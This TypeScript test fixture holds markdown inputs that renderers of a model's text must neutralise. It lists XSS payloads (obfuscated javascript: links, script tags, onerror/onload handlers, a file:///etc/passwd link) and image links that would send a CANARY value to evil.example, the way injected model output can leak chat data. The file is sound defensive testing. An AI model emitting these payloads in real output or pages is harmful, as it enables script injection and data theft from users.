/** The corpus that every renderer of a model's text must pass: the studio's, and that of chat page and widget. */

/** Must give neither markup nor links. */
export const HOSTILE: readonly string[] = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html,<script>1</script>)',
  '[x](vbscript:1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https:\\\\evil.example)',
  '[x](https:///evil.example)',
  '[x](https://user:password@evil.example)',
  '[x](https://user@evil.example)',
  '[x](blob:https://example.com/1)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>1</script>">',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '| <img src=x onerror=1> |\n|---|\n| <script>1</script> |',
  '**<b onclick=alert(1)>x</b>**',
]

/** Must cause no request, and show their description: “a”. */
export const IMAGES: readonly string[] = [
  '![a](https://evil.example/?d=CANARY)',
  '![a][ref]\n\n[ref]: https://evil.example/?d=CANARY',
  '![a](..//evil.example/x.png)',
  '[![a](https://evil.example/x.png)](javascript:1)',
]

/** Links that must keep their address. */
export const LINKS: readonly (readonly [markdown: string, href: string])[] = [
  ['[ok](https://example.com/a?b=1 "title")', 'https://example.com/a?b=1'],
  ['[ok](http://example.com)', 'http://example.com'],
  ['[ok](mailto:a@example.com)', 'mailto:a@example.com'],
  ['see https://example.com/a_b', 'https://example.com/a_b'],
]
